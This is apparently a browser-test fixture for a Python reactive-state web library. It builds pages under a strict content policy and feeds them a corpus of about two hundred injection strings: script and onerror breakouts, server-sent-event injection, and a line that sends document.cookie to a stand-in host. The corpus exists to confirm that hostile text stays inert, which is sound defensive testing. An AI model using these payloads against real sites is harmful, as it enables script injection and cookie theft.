"""A site with one of everything, for a real browser: every page is served under a strict content policy."""

import asyncio
import os
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from html import escape
from pathlib import Path
from typing import Any

from pydantic import Field
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route

from faststate_asgi import (
    BadRequestError,
    Bound,
    Dispatch,
    Elements,
    ErrorBox,
    FastStateMiddleware,
    Html,
    Live,
    Private,
    ReactiveState,
    Redirect,
    Remove,
    Script,
    StateConfig,
    StateRegistry,
    StateScope,
    datastar_script,
    event,
    fragment,
    js,
)
from faststate_asgi.frames import expression

POLICY = (
    "default-src 'none'; script-src 'self' 'unsafe-eval'; connect-src 'self'; img-src 'self' data:; base-uri 'none'"
)
HARD_TEXTS = (
    "@post('/x')",
    "$x and ${x}",
    "quotes ' \" and `back-ticks`",
    "</script><script>window.hacked = 1</script>",
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>",
    "line\u2028separator and\u2029paragraph",
    "two\nlines\tand a tab \\n \\u0041",
    "&lt;b&gt; &amp; \u00e4\u6f22\U0001f600",
    "data: x\n\nevent: datastar-patch-signals\ndata: signals {total: 666}\n\n",
)
"""Texts that are code to somebody; each of them must arrive as it is."""
_RUN = "window.hacked = 1"
_SHELLS = (
    "{}",
    "'{}'",
    "', x: ({}), y: '",
    "'); {}; ('",
    '"+({})+"',
    "`${{{}}}`",
    "${{{}}}",
    "@post('/x', {{a: ({})}})",
    "@docs({})",
    "$count = ({})",
    "$count; {}",
    "\\'; {}; //",
    "\\u0027; {}; //",
    "&#39;; {}; &#39;",
    "&quot;>{}",
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    '"><p data-init="{}">',
    "'><p data-on:click='{}'>",
    "<!--{}-->",
    "]]>{}",
    "\n\nevent: datastar-patch-elements\ndata: elements <p data-init='{}'></p>\n\n",
    "\u2028{}\u2029",
)
_CODES = (
    _RUN,
    "window.hacked=`1`",
    "(()=>{window.hacked=1})()",
    "Function('window.hacked=1')()",
    "fetch('//evil.example/'+document.cookie)",
    "constructor.constructor('window.hacked=1')()",
    "el.ownerDocument.defaultView.hacked=1",
    "@get('/there')",
)
CORPUS = tuple(shell.format(code) for shell in _SHELLS for code in _CODES)
"""Two hundred texts that break out of whatever a careless page writes them into."""

registry = StateRegistry()


class Tally(ReactiveState):
    """What one browser session counts and writes."""

    count: int = 0
    note: Bound[str] = ""
    echo: str = ""

    @event
    def increment(self, amount: int = 1) -> None:
        """Add to the count."""
        self.count += amount

    @event
    def put(self, text: str) -> None:
        """Keep a text that came as an argument."""
        self.echo = text

    @event
    def forget(self) -> None:
        """Delete all of it."""
        self.delete()

    @event
    def fail(self) -> None:
        """Refuse, always."""
        self.count = 999
        raise BadRequestError("This <b>button</b> never works.")


class Shared(ReactiveState):
    """What everybody counts together."""

    total: int = 0

    @event(inline=True)
    def add(self, amount: int = 1) -> None:
        """Add to the total."""
        self.total += amount

    @event(method="get")
    def bump(self) -> None:
        """Add one, by a GET."""
        self.total += 1


class SignUp(ReactiveState):
    """A form with an error for each field."""

    name_error: str = ""
    age_error: str = ""
    accepted: str = ""

    @event
    def send(self, name: str, age: str) -> None:
        """Check both fields."""
        self.name_error = "" if name else "The name is missing"
        self.age_error = "" if age.isdigit() else "The age is no number"
        self.accepted = "" if self.name_error or self.age_error else f"{name}, {age}"


class Chat(ReactiveState):
    """A list that several people watch."""

    lines: Private[list[str]] = Field(default_factory=list)

    @event
    def say(self, text: str) -> None:
        """Append a line."""
        self.lines = [*self.lines, text]

    @fragment(on=("lines",))
    def log(self) -> Html:
        """Render all lines."""
        return Html('<ul id="log">' + "".join(f"<li>{escape(line)}</li>" for line in self.lines) + "</ul>")


class Job(ReactiveState):
    """A progress bar."""

    percent: int = 0
    step: str = "idle"

    @event
    async def run(self) -> AsyncIterator[None]:
        """Go through five steps."""
        for number in range(1, 6):
            self.percent, self.step = number * 20, f"step {number}"
            yield
            await asyncio.sleep(0.1)
        self.step = "done"
        yield


class Odd(ReactiveState):
    """Values that are difficult to carry."""

    maybe: int | None = None
    words: dict[str, Any] = Field(default_factory=dict)
    items: list[str] = Field(default_factory=list)
    huge: int = 0

    @event
    def set_maybe(self, value: int | None) -> None:
        """Set the optional field."""
        self.maybe = value

    @event
    def put_word(self, key: str, value: str) -> None:
        """Add a key."""
        self.words = {**self.words, key: value}

    @event
    def drop_word(self, key: str) -> None:
        """Remove a key."""
        self.words = {name: value for name, value in self.words.items() if name != key}

    @event
    def push(self, item: str) -> None:
        """Append in place."""
        self.items.append(item)

    @event
    def fill(self) -> None:
        """Put every hostile text into the list."""
        self.items = list(CORPUS)

    @event
    def clear(self) -> None:
        """Empty the list."""
        self.items = []

    @event
    def grow(self) -> None:
        """Set a number that no JavaScript number holds."""
        self.huge = 2**60 + 1


class Widget(ReactiveState):
    """One of several components of a page."""

    clicks: int = 0

    @event
    def press(self) -> None:
        """Count a click."""
        self.clicks += 1


class Item(ReactiveState):
    """One of several records of a page."""

    stock: int = 10
    title: Bound[str] = ""

    @event
    def buy(self) -> None:
        """Take one."""
        self.stock -= 1


class Answers(ReactiveState):
    """Events that return something."""

    asked: int = 0

    @event
    def go(self) -> Redirect:
        """Lead elsewhere."""
        return Redirect("/there?quote='\"&x=@post('/x')")

    @event
    def tell(self) -> Dispatch:
        """Dispatch a DOM event."""
        return Dispatch("told", {"text": HARD_TEXTS[0] + HARD_TEXTS[3], "none": None})

    @event
    def run(self) -> Script:
        """Run a script."""
        return Script("document.title = 'ran ' + [1, 2].map(n => n * 2).join('\"')")

    @event
    def show(self) -> Elements:
        """Append an element."""
        return Elements(Html("<p class='new'>new</p>"), selector="#box", mode="append")

    @event
    def hide(self) -> Remove:
        """Remove what was appended."""
        return Remove("#box .new")

    @event
    def say(self, text: str) -> str:
        """Answer with plain text."""
        return text

    @event
    def quote(self, is_ignored: bool) -> Html:
        """Answer with markup of a visitor, as a sanitiser leaves it: without scripts, with data attributes."""
        theirs = '<p data-init="window.hacked = \'ran\'" data-on:click="window.hacked = 2">theirs</p>'
        return Html(f'<div id="quote"><div {"data-ignore" if is_ignored else ""}>{theirs}</div></div>')

    @event
    def several(self) -> list[Any]:
        """Change something and answer with two things."""
        self.asked += 1
        return [Html("<b id='bold'>two</b>"), Dispatch("told", {"text": "three", "none": 0})]


registry.register(Tally, StateConfig())
registry.register(Shared, StateConfig(scope=StateScope.GLOBAL))
registry.register(SignUp, StateConfig())
registry.register(Chat, StateConfig(scope=StateScope.GLOBAL))
registry.register(Job, StateConfig())
registry.register(Odd, StateConfig())
registry.register(Widget, StateConfig(scope=StateScope.COMPONENT, namespace="widget"))
registry.register(Item, StateConfig(scope=StateScope.RECORD, namespace="item", public=True))
registry.register(Answers, StateConfig())


# What is typed lives in a signal of the page, which no patch from the server touches while the field has the focus.
TAKE_OVER = "document.activeElement === el || ($_draft = $note)"
KEEP_DRAFT = Tally.set_note(js("$_draft"))  # type: ignore[attr-defined]  # made by Bound


def tag(name: str, content: str = "", /, **attributes: object) -> str:
    """Return one element; `on_click` and the like become Datastar attributes, `data_text` a dash."""
    parts = [f' {_attribute(key)}="{escape(str(value))}"' for key, value in attributes.items()]
    return f"<{name}{''.join(parts)}>{content}</{name}>"


def _attribute(key: str) -> str:
    """Return the HTML name of an attribute."""
    if ":" in key:
        return key
    return key.replace("on_", "data-on:", 1) if key.startswith("on_") else key.replace("_", "-")


def button(name: str, action: str) -> str:
    """Return a button with its action."""
    return tag("button", escape(name), type="button", on_click=action)


def shown(name: str, expression: str, content: object = "") -> str:
    """Return an element that shows an expression."""
    return tag("output", escape(str(content)), id=name, data_text=expression)


def page(*parts: object) -> Response:
    """Return a whole page of these parts."""
    body = "".join(part if isinstance(part, str) else str(part) for part in parts)
    badge = shown("connected", "$_faststate.connected ? 'yes' : 'no'", "no")
    head = f'<meta charset="utf-8"><title>Test</title>{datastar_script()}<link rel="icon" href="data:,">'
    document = f'<!doctype html><html lang="en"><head>{head}</head><body>{body}{badge}{ErrorBox()}</body></html>'
    return HTMLResponse(document, headers={"content-security-policy": POLICY})


async def counters(request: Request) -> Response:
    """Show a session's counter and everybody's."""
    tally, shared = await Tally.aget(request), await Shared.aget(request)
    return page(
        Live(tally, shared),
        shown("count", "$count", tally.count),
        shown("total", "$total", shared.total),
        tag("input", id="note", data_bind="note", on_input=Tally.setter("note")),
        tag(
            "input",
            id="draft",
            data_bind="_draft",
            data_effect=TAKE_OVER,
            **{"data-on:input__debounce.50ms": KEEP_DRAFT},
        ),
        shown("said", "$note", tally.note),
        shown("echo", "$echo", tally.echo),
        button("Count", Tally.increment()),
        button("Add", Shared.add()),
        button("Forget", Tally.forget()),
        button("Fail", Tally.fail()),
        *(button(f"Put {index}", Tally.put(text)) for index, text in enumerate(HARD_TEXTS)),
    )


async def unwatched(request: Request) -> Response:
    """Show the counters without any stream: what changes comes with the answers alone."""
    return page(
        tag("div", data_signals="{count: 0, total: 0}"),
        shown("count", "$count"),
        shown("total", "$total"),
        button("Count", Tally.increment()),
        button("Add", Shared.add()),
    )


async def aside(request: Request) -> Response:
    """Show a total that the page does not watch beside something that it does."""
    return page(
        Live(await Tally.aget(request)),
        tag("div", data_signals="{total: 0}"),
        shown("total", "$total"),
        button("Add", Shared.add()),
    )


async def form(request: Request) -> Response:
    """Show the form."""
    state = await SignUp.aget(request)
    fields = (
        tag("input", name="name", id="name"),
        shown("name-error", "$name_error", state.name_error),
        tag("input", name="age", id="age"),
        shown("age-error", "$age_error", state.age_error),
        tag("button", "Send", type="submit"),
    )
    return page(
        Live(state),
        tag("form", "".join(fields), on_submit=SignUp.send.form()),
        shown("accepted", "$accepted", state.accepted),
    )


async def chat(request: Request) -> Response:
    """Show the chat."""
    state = await Chat.aget(request)
    fields = tag("textarea", name="text", id="text") + tag("button", "Say", type="submit")
    return page(Live(state), state.log(), tag("form", fields, on_submit=Chat.say.form()))


async def job(request: Request) -> Response:
    """Show the progress bar."""
    state = await Job.aget(request)
    bar = {"id": "bar", "max": 100, "value": state.percent, "data-attr:value": "$percent"}
    return page(Live(state), tag("progress", **bar), shown("step", "$step", state.step), button("Run", Job.run()))


async def odd(request: Request) -> Response:
    """Show the difficult values."""
    state = await Odd.aget(request)
    return page(
        Live(state),
        shown("maybe", "'<' + $maybe + '>'"),
        shown("words", "JSON.stringify($words)"),
        shown("apple", "'<' + ($words.apple) + '>'"),
        shown("items", "JSON.stringify($items)"),
        shown("huge", "$huge"),
        button("Seven", Odd.set_maybe(7)),
        button("None", Odd.set_maybe(None)),
        button("Apple", Odd.put_word("apple", "red")),
        button("Green apple", Odd.put_word("apple", "green")),
        button("Dotted", Odd.put_word("a.b", "x")),
        button("No apple", Odd.drop_word("apple")),
        button("Push", Odd.push(js("'p' + $items.length"))),
        button("Clear", Odd.clear()),
        button("Grow", Odd.grow()),
    )


async def twins(request: Request) -> Response:
    """Show two components and two records, each pair of one class."""
    context = request.scope["faststate"]
    left, right = [await context.get(Widget, component_id=name) for name in ("left", "right")]
    one, odd_one = [await context.get(Item, record_id=name) for name in ("1", "it's <2>, 100%41: \u00e9+")]
    parts: list[object] = [Live(left, right, one, odd_one)]
    for name, widget in (("left", left), ("right", right)):
        parts += [shown(name, widget.signal.clicks, widget.clicks), button(name, widget.actions.press())]
    for name, item in (("one", one), ("odd", odd_one)):
        parts += [shown(name, item.signal.stock, item.stock), button(name, item.actions.buy())]
    return page(*parts)


async def answers(request: Request) -> Response:
    """Show what events answer."""
    state = await Answers.aget(request)
    return page(
        Live(state),
        shown("asked", "$asked", state.asked),
        tag("div", id="box"),
        tag("div", id="updates"),
        tag("b", id="bold"),
        tag("div", id="quote"),
        tag("div", data_signals="{password: 'canary-in-a-signal'}"),
        button("Quote ignored", Answers.quote(True)),
        button("Quote", Answers.quote(False)),
        button("Bump", Shared.bump()),
        tag("output", id="told", **{"data-on:told__document": "el.textContent = JSON.stringify(evt.detail)"}),
        button("Go", Answers.go()),
        button("Tell", Answers.tell()),
        button("Run", Answers.run()),
        button("Show", Answers.show()),
        button("Hide", Answers.hide()),
        button("Several", Answers.several()),
        *(button(f"Say {index}", Answers.say(text)) for index, text in enumerate(HARD_TEXTS)),
    )


async def corpus(request: Request) -> Response:
    """Show every hostile text: as a seed of a signal, and as a value in an expression."""
    state = await Odd.aget(request)
    parts: list[object] = [Live(state)]
    for index, text in enumerate(CORPUS):
        parts.append(tag("output", id=f"seed-{index}", data_text=f"$items[{index}]"))
        parts.append(tag("output", id=f"value-{index}", data_text=expression(text)))
    return page(*parts, button("Fill", Odd.fill()), button("Back", Odd.push(CORPUS[2])))


async def there(request: Request) -> Response:
    """Show with which query one came."""
    return HTMLResponse(f'<!doctype html><link rel="icon" href="data:,"><p>{escape(request.url.query)}</p>')


async def attack(request: Request) -> Response:
    """Show an empty page without a policy, from which scripts of tests attack other origins."""
    return HTMLResponse("<!doctype html><title>Attack</title><link rel='icon' href='data:,'><body></body>")


async def crowd(request: Request) -> Response:
    """Return the total that is stored, without any page."""
    return PlainTextResponse(str((await Shared.aget(request)).total))


PAGES: Mapping[str, Callable[[Request], Awaitable[Response]]] = {
    "/": counters,
    "/unwatched": unwatched,
    "/aside": aside,
    "/form": form,
    "/chat": chat,
    "/job": job,
    "/odd": odd,
    "/twins": twins,
    "/answers": answers,
    "/corpus": corpus,
    "/there": there,
    "/attack": attack,
    "/total": crowd,
}

app = FastStateMiddleware(
    Starlette(routes=[Route(path, endpoint) for path, endpoint in PAGES.items()]),
    registry=registry,
    secret_key="only-for-browser-tests-" + "x" * 32,
    datastar_url=os.environ.get("FASTSTATE_DATASTAR_URL")
    or str(Path(__file__).resolve().parents[2] / ".cache" / "datastar" / "datastar.js"),
)
